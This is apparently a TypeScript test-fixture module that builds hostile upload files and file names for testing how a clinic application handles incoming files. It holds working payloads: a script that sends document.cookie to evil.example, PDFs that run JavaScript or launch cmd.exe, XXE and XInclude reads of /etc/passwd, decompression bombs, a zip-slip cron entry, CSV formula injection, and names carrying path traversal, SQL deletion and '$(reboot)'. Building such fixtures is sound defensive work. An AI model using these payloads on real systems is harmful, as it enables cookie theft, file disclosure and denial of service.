import { buffer } from 'node:stream/consumers'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { ZipFile } from 'yazl'
import { pdfOf } from '../scenarios/records.ts'

// Files that try to harm whoever takes, keeps or shows them. They are made here, so that no bomb lies in the repository.

/** What a PDF of ours shows. */
export const SHOWN = 'Hb 7.9 g/dL'

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'

/** A PDF that shows a line and does something more when it is opened. */
const pdfThat = (action: string): Buffer =>
  Buffer.from(
    pdfOf([SHOWN])
      .toString('latin1')
      .replace('/Type /Catalog', `/Type /Catalog ${action}`)
      // The table of places is wrong from here on, as in many real files; readers find the objects without it.
      .replace(/startxref\n\d+/, 'startxref\n0'),
    'latin1',
  )

const chunk = (type: string, data: Buffer) => {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}
/** A PNG of a few bytes that says it is this large. */
const pngBomb = (width: number, height: number): Buffer => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const row = Buffer.alloc(Math.ceil(width / 8) + 1)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', deflateSync(row)), chunk('IEND', Buffer.alloc(0))])
}
/** A TIFF without any pixels that says it is this large. */
const tiffBomb = (width: number, height: number): Buffer => {
  const tags = [
    [256, width],
    [257, height],
    [258, 8],
    [259, 1],
    [262, 1],
    [273, 8],
    [277, 1],
    [278, height],
    [279, 4],
  ] as const
  const bytes = Buffer.alloc(8 + 2 + tags.length * 12 + 4)
  bytes.write('II*\0\b\0\0\0', 'latin1')
  bytes.writeUInt16LE(tags.length, 8)
  for (const [at, [tag, value]] of tags.entries()) {
    bytes.writeUInt16LE(tag, 10 + at * 12)
    bytes.writeUInt16LE(4, 12 + at * 12)
    bytes.writeUInt32LE(1, 14 + at * 12)
    bytes.writeUInt32LE(value, 18 + at * 12)
  }
  return bytes
}

/** A ZIP archive of these files; yazl takes no name that climbs out, so that is written afterwards. */
const zipOf = async (files: readonly { name: string; data: Buffer }[]): Promise<Buffer> => {
  const zip = new ZipFile()
  for (const { name, data } of files) zip.addBuffer(data, name.replaceAll('..', '@@'), { compressionLevel: 9 })
  zip.end()
  return Buffer.from((await buffer(zip.outputStream)).toString('latin1').replaceAll('@@/', '../'), 'latin1')
}
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576)
const CONTENT_TYPES = Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
const officeBomb = (part: string) =>
  zipOf([
    { name: '[Content_Types].xml', data: CONTENT_TYPES },
    { name: part, data: zeros(20) },
  ])

const squareOf = (side: number) => sharp({ create: { width: side, height: side, channels: 3, background: '#2b8a3e' } })
const picture = () => squareOf(16).png().toBuffer()

const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')
const nestedXml = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY e0 "ha">${entities}]><l>&e9;</l>`
const foreignSvg = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`
const scriptSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}<rect width="9" height="9"/></svg>`
const manyObjectsPdf = (count: number) =>
  Buffer.from(
    `%PDF-1.7\n${Array.from({ length: count }, (_, at) => `${at + 1} 0 obj\n<< /Next ${at + 2} 0 R >>\nendobj\n`).join('')}trailer\n<< >>\n%%EOF\n`,
  )

let made: Promise<ReadonlyMap<string, Buffer>> | undefined
const make = async () => {
  const [png, gif, photo] = await Promise.all([
    picture(),
    squareOf(16).gif().toBuffer(),
    squareOf(64)
      .jpeg()
      .withExif({ IFD0: { Copyright: 'A careless photographer' }, IFD3: { GPSLatitude: '1/1 17/1 0/1', GPSLatitudeRef: 'S' } })
      .toBuffer(),
  ])
  return new Map<string, Buffer>([
    ['plain.pdf', pdfOf([SHOWN])],
    ['runs-a-script.pdf', pdfThat('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')],
    ['starts-a-program.pdf', pdfThat('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['opens-an-address.pdf', pdfThat('/OpenAction << /S /URI /URI (http://evil.example/) >>')],
    ['half.pdf', pdfOf([SHOWN]).subarray(0, 200)],
    ['page-after-the-header.pdf', Buffer.from(`%PDF-1.4\n<html><body>${SCRIPT}</body></html>`)],
    ['objects-without-pages.pdf', manyObjectsPdf(5_000)],
    ['plain.png', png],
    ['two-endings.html.png', png],
    ['page-called-picture.png', Buffer.from(`<!DOCTYPE html><html>${SCRIPT}</html>`)],
    ['page-behind-a-picture.png', Buffer.concat([png, Buffer.from(`<html>${SCRIPT}</html>`)])],
    ['huge-by-its-header.png', pngBomb(60_000, 60_000)],
    ['huge-by-its-header.tif', tiffBomb(65_000, 65_000)],
    ['script-in-a-picture.gif', Buffer.concat([gif, Buffer.from('*/=alert(1);//')])],
    ['taken-at-home.jpg', photo],
    ['script.svg', Buffer.from(scriptSvg)],
    ['reads-a-file.svg', Buffer.from(foreignSvg)],
    ['entities-in-entities.xml', Buffer.from(nestedXml)],
    [
      'includes-a-file.xml',
      Buffer.from('<r xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd" parse="text"/></r>'),
    ],
    ['hundred-megabytes.zip', await zipOf([{ name: 'zeros', data: zeros(100) }])],
    ['climbs-out.zip', await zipOf([{ name: '../../../etc/cron.d/x', data: Buffer.from('* * * * * root id') }])],
    ['bomb.docx', await officeBomb('word/document.xml')],
    ['bomb.xlsx', await officeBomb('xl/worksheets/sheet1.xml')],
    ['formulas.csv', Buffer.from('name,note\n=1+1,@SUM(A1)\n"+cmd|\' /C calc\'!A0",-2+3\n')],
    ['western-letters.csv', Buffer.from('name;note\nJos\xe9;fi\xe8vre\n', 'latin1')],
    ['two-byte-letters.csv', Buffer.from('\ufeffname,note\nJosé,fièvre\n', 'utf16le')],
    ['deep.json', Buffer.from('['.repeat(100_000))],
    ['deep-objects.json', Buffer.from('{"a":'.repeat(20_000))],
    ['prototype.json', Buffer.from('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}')],
    ['same-key-twice.json', Buffer.from('{"role":"nurse","role":"administrator"}')],
    ['large-number.json', Buffer.from(`{"amount":${'9'.repeat(500)}}`)],
    ['not-utf8.json', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])],
    ['mark-in-front.json', Buffer.from('\ufeff{"a":1}')],
    ['program.exe', Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(200)])],
    ['script.sh', Buffer.from('#!/bin/sh\ncat /etc/passwd\n')],
  ])
}
/** Files that a clinic may be sent, by their names: harmful ones, and harmless ones that look like them. */
export const hostileFiles = (): Promise<ReadonlyMap<string, Buffer>> => (made ??= make())

/** Names of files that climb out of folders, hide their ending, or write into what they are printed in. */
export const hostileNames: readonly string[] = [
  '../../../home/clinic/.ssh/authorized_keys',
  '..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts',
  '/etc/shadow',
  'C:\\boot.ini',
  'letter.txt\u0000.exe',
  'nul.txt',
  'com1.txt',
  `${'long'.repeat(200)}.txt`,
  'invoice\u202etxt.exe',
  '<svg onload=alert(1)>.txt',
  'x\r\nX-Injected: yes\r\n.txt',
  "'); delete from patients; --.txt",
  '.bashrc',
  'ñandú 検査 🧪.txt',
  '%2e%2e%2f%2e%2e%2fpasswd.txt',
  '   ',
  '..',
  'letter.txt.',
  'letter.txt ',
  'a;b"c.txt',
  '$(reboot).txt',
]
